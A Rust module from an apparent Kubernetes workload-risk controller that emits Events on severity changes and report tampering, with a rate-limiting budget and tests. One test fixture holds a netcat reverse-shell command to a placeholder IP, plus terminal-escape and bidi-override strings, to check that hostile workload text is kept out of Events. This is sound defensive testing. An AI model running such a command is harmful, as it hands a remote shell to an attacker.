//! Kubernetes Events on the workload, when its severity changes.
//!
//! kube's own recorder is not used: it shows the note of the first of several similar events, so that a score
//! of 90 reads as the earlier 10.

use std::time::Instant;

use k8s_openapi::api::core::v1::ObjectReference;
use k8s_openapi::api::events::v1::Event;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{MicroTime, ObjectMeta};
use k8s_openapi::jiff::Timestamp;
use kube::Resource as _;

use super::stored::Known;
use crate::api::report::{JobRiskReport, ReportStatus};
use crate::report::{Digest, SUBJECT_API_VERSION, rules_of};
use crate::severity::Severity;

/// Who reports.
const CONTROLLER: &str = "jobrisk.io/controller";
/// What is done.
const ACTION: &str = "Assess";
/// The API's limit on a note.
const MAX_NOTE: usize = 1024;

/// Why an event is written. All texts are constants: nothing of a workload gets into a reason.
pub mod reasons {
    /// The first verdict above None.
    pub const RISK_DETECTED: &str = "RiskDetected";
    /// The severity rose.
    pub const RISK_INCREASED: &str = "RiskIncreased";
    /// The severity fell.
    pub const RISK_REDUCED: &str = "RiskReduced";
    /// The severity fell to None.
    pub const RISK_CLEARED: &str = "RiskCleared";
    /// Somebody else changed or removed the report; it was put back.
    pub const REPORT_TAMPERED: &str = "ReportTampered";
    /// A namespace takes no reports.
    pub const REPORTS_REFUSED: &str = "ReportsRefused";
}

/// The reason for a change of severity, or nothing where there is no change.
pub fn reason(before: Severity, now: Severity) -> Option<&'static str> {
    match (before, now) {
        (before, now) if before == now => None,
        (Severity::None, _) => Some(reasons::RISK_DETECTED),
        (_, Severity::None) => Some(reasons::RISK_CLEARED),
        (before, now) if now > before => Some(reasons::RISK_INCREASED),
        _ => Some(reasons::RISK_REDUCED),
    }
}

/// What an Event says.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Announcement {
    /// The severity changed, for this reason.
    Severity(&'static str),
    /// The report was put back.
    Tampered,
}

/// What an Event would say about a verdict, after the report that stood there before.
///
/// A severity that fell without a change of the workload fell because the rules changed: nobody has to know that of
/// each workload.
pub fn announcement(before: Option<&Known>, status: &ReportStatus, tampered: bool) -> Option<Announcement> {
    if tampered {
        return Some(Announcement::Tampered);
    }
    let severity = before.map(|before| before.severity).unwrap_or_default();
    let reason = reason(severity, status.severity)?;
    let same_workload = before.is_some_and(|before| before.subject_generation == status.subject_generation);
    (status.severity > severity || !same_workload).then_some(Announcement::Severity(reason))
}

/// The Event for an announcement.
///
/// Its name follows from the workload and the verdict: when the controller ends between writing the report and
/// the Event, and says it again, the second one is refused as existing.
pub fn event(
    report: &JobRiskReport,
    digest: Digest,
    before: Option<Severity>,
    what: Announcement,
    now: Timestamp,
    instance: &str,
) -> Option<Event> {
    let status = report.status.as_ref()?;
    let before = before.unwrap_or_default();
    let (reason, event_type, note, again) = match what {
        Announcement::Severity(reason) => {
            let event_type = if status.severity >= Severity::Medium { "Warning" } else { "Normal" };
            (reason, event_type, note(report, before), String::new())
        }
        // It may happen again, and is said again.
        Announcement::Tampered => {
            let again = format!("-{:x}", now.as_second());
            (reasons::REPORT_TAMPERED, "Warning", tampered_note(report), again)
        }
    };
    let subject = &report.spec.subject;
    let namespace = report.metadata.namespace.clone();
    let uid_start: String = subject.uid.chars().take(8).collect();
    Some(Event {
        metadata: ObjectMeta {
            name: Some(format!("{}.{uid_start}{}{again}", subject.name, digest.short())),
            namespace: namespace.clone(),
            ..ObjectMeta::default()
        },
        action: Some(ACTION.to_owned()),
        reason: Some(reason.to_owned()),
        note: Some(note),
        type_: Some(event_type.to_owned()),
        regarding: Some(ObjectReference {
            api_version: Some(SUBJECT_API_VERSION.to_owned()),
            kind: Some(subject.kind.clone()),
            name: Some(subject.name.clone()),
            namespace: namespace.clone(),
            uid: Some(subject.uid.clone()),
            ..ObjectReference::default()
        }),
        related: Some(ObjectReference { name: report.metadata.name.clone(), namespace, ..a_report() }),
        ..stamped(now, instance)
    })
}

/// What every Event says: who reports it, and when.
fn stamped(now: Timestamp, instance: &str) -> Event {
    Event {
        event_time: Some(MicroTime(now)),
        reporting_controller: Some(CONTROLLER.to_owned()),
        reporting_instance: Some(instance.chars().take(128).collect()),
        ..Event::default()
    }
}

/// A reference to a report, whichever it is.
fn a_report() -> ObjectReference {
    ObjectReference {
        api_version: Some(JobRiskReport::api_version(&()).into_owned()),
        kind: Some(JobRiskReport::kind(&()).into_owned()),
        ..ObjectReference::default()
    }
}

/// A note within the API's limit.
fn cut(note: &str) -> String {
    note.chars().take(MAX_NOTE).collect()
}

/// The Event in the controller's own namespace that a namespace takes no reports.
pub fn refusal(namespace: &str, why: &'static str, pod: &Pod, now: Timestamp) -> Event {
    let note = format!(
        "Namespace {namespace} takes no jobriskreports ({why}): its Jobs and CronJobs are judged and logged, but not \
         reported. Look for a policy, a quota, or whether it is being deleted."
    );
    Event {
        metadata: ObjectMeta {
            // One an hour for each namespace.
            name: Some(format!("{}.refused-{namespace}-{:x}", pod.name, now.as_second() / 3600)),
            namespace: Some(pod.namespace.clone()),
            ..ObjectMeta::default()
        },
        action: Some("Report".to_owned()),
        reason: Some(reasons::REPORTS_REFUSED.to_owned()),
        note: Some(cut(&note)),
        type_: Some("Warning".to_owned()),
        regarding: Some(ObjectReference {
            api_version: Some("v1".to_owned()),
            kind: Some("Pod".to_owned()),
            name: Some(pod.name.clone()),
            namespace: Some(pod.namespace.clone()),
            ..ObjectReference::default()
        }),
        ..stamped(now, &pod.name)
    }
}

/// The Event on a report whose workload is gone that somebody else has changed it.
pub fn changed_evidence(namespace: &str, name: &str, uid: &str, now: Timestamp, instance: &str) -> Event {
    let note = format!(
        "Somebody else changed jobriskreport {name} after its workload was gone. It says so now; of what it said \
         before only the severity, the risk score and the peak could be put back."
    );
    Event {
        metadata: ObjectMeta {
            name: Some(format!("{name}.changed-{:x}", now.as_second())),
            namespace: Some(namespace.to_owned()),
            ..ObjectMeta::default()
        },
        action: Some(ACTION.to_owned()),
        reason: Some(reasons::REPORT_TAMPERED.to_owned()),
        note: Some(cut(&note)),
        type_: Some("Warning".to_owned()),
        regarding: Some(ObjectReference {
            name: Some(name.to_owned()),
            namespace: Some(namespace.to_owned()),
            uid: Some(uid.to_owned()),
            ..a_report()
        }),
        ..stamped(now, instance)
    }
}

/// The pod in which the controller runs.
#[derive(Debug, Clone)]
pub struct Pod {
    /// Its namespace.
    pub namespace: String,
    /// Its name.
    pub name: String,
}

fn tampered_note(report: &JobRiskReport) -> String {
    let name = report.metadata.name.as_deref().unwrap_or_default();
    let note = format!("Somebody else changed or removed jobriskreport {name}; it was put back.");
    cut(&note)
}

/// How many Events may be written: so many at once, then so many in a second. A flood of risky workloads must not become
/// a flood of Events; the reports and the finding log have all of them.
#[derive(Debug)]
pub struct Budget {
    left: f64,
    since: Instant,
}

impl Budget {
    const AT_ONCE: f64 = 100.0;
    const PER_SECOND: f64 = 10.0;

    /// A full budget.
    pub fn new(now: Instant) -> Self {
        Self { left: Self::AT_ONCE, since: now }
    }

    /// Takes one, if there is one.
    pub fn take(&mut self, now: Instant) -> bool {
        let more = now.saturating_duration_since(self.since).as_secs_f64() * Self::PER_SECOND;
        self.left = (self.left + more).min(Self::AT_ONCE);
        self.since = now;
        let there = self.left >= 1.0;
        if there {
            self.left -= 1.0;
        }
        there
    }
}

/// The sentence that people read in `kubectl describe`: rule ids and numbers, nothing of the workload.
fn note(report: &JobRiskReport, before: Severity) -> String {
    let Some(status) = &report.status else { return String::new() };
    let rules = rules_of(&status.findings);
    let listed = if rules.is_empty() { "no findings".to_owned() } else { rules.join(", ") };
    let name = report.metadata.name.as_deref().unwrap_or_default();
    let note = format!(
        "Severity {} (was {before}), risk score {}: {listed}. See jobriskreport {name}.",
        status.severity, status.risk_score
    );
    cut(&note)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assess::assess;
    use crate::report::report;
    use crate::workload::Kind;
    use crate::workload::decode::from_json;

    #[test]
    fn a_flood_of_events_is_cut() {
        let now = Instant::now();
        let mut budget = Budget::new(now);
        let taken = (0..1000).filter(|_| budget.take(now)).count();
        assert_eq!(taken, 100);
        let later = now + std::time::Duration::from_secs(2);
        assert_eq!((0..1000).filter(|_| budget.take(later)).count(), 20);
    }

    #[test]
    fn only_a_change_of_severity_has_a_reason() {
        for (before, now, expected) in [
            (Severity::None, Severity::None, None),
            (Severity::High, Severity::High, None),
            (Severity::None, Severity::Low, Some("RiskDetected")),
            (Severity::Low, Severity::High, Some("RiskIncreased")),
            (Severity::High, Severity::Low, Some("RiskReduced")),
            (Severity::Low, Severity::None, Some("RiskCleared")),
        ] {
            assert_eq!(reason(before, now), expected, "{before} -> {now}");
        }
    }

    /// A report whose every text that comes from the workload is hostile and as long as it may be.
    fn hostile() -> JobRiskReport {
        let name = "a.b-".repeat(15) + "x";
        let script = format!("nc 192.0.2.10 4444 -e /bin/sh \u{1b}[2J\u{202e}{}", "y".repeat(1000));
        let json = serde_json::json!({
            "metadata": { "name": name, "namespace": "n", "uid": "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0" },
            "spec": { "template": { "spec": {
                "hostPID": true, "hostNetwork": true, "serviceAccountName": "\u{7}\r\n".repeat(100),
                "containers": [{ "name": "\u{1b}c", "image": "ncat:\n", "command": ["/bin/sh", "-c", script],
                    "securityContext": { "privileged": true } }],
            } } },
        });
        let object = from_json(json.to_string().as_bytes()).unwrap();
        report(&assess(Kind::Job, &object)).report
    }

    #[test]
    fn o10_why_an_event_is_written_is_a_constant_and_all_of_it_is_within_the_limits() {
        let report = hostile();
        let instance = "i".repeat(1000);
        for (what, reason) in [
            (Announcement::Severity(reasons::RISK_DETECTED), reasons::RISK_DETECTED),
            (Announcement::Tampered, reasons::REPORT_TAMPERED),
        ] {
            let digest = crate::report::digest(&report);
            let event = event(&report, digest, None, what, Timestamp::UNIX_EPOCH, &instance).unwrap();
            assert_eq!(event.reason.as_deref(), Some(reason));
            assert_eq!(event.action.as_deref(), Some(ACTION));
            assert!(reason.len() <= 128 && ACTION.len() <= 128);
            assert!(event.reporting_instance.unwrap().len() <= 128);
            let name = event.metadata.name.unwrap();
            assert!(
                name.len() <= 253
                    && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(&byte))
            );
            let note = event.note.unwrap();
            assert!(
                note.len() <= MAX_NOTE && note.chars().all(|character| (' '..='~').contains(&character)),
                "{note:?}"
            );
        }
        let pod = Pod { namespace: "jobrisk-system".to_owned(), name: "jobrisk-0".to_owned() };
        let refused = refusal("n", "refused", &pod, Timestamp::UNIX_EPOCH);
        assert_eq!(refused.reason.as_deref(), Some(reasons::REPORTS_REFUSED));
    }
}
